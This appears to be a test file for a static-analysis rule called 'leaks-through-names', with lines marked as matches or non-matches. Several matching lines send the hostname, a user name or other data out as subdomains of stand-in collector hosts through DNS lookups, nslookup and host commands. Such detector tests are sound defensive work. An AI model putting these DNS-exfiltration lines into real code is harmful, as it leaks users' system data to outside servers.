// ruleid: leaks-through-names
dns.lookup(os.hostname() + ".c.example.test", done);
// ruleid: leaks-through-names
exec(`nslookup ${user}.c.example.test`);
// ok: leaks-through-names
dns.lookup("files.example.test", done);
// ok: leaks-through-names
const header = `host: ${url.hostname}${url.port ? `:${url.port}` : ""}.example\r\n`;

// ok: leaks-through-names
address += host + url.pathname;
// ruleid: leaks-through-names
cp.execSync("host " + part + ".collector.invalid");
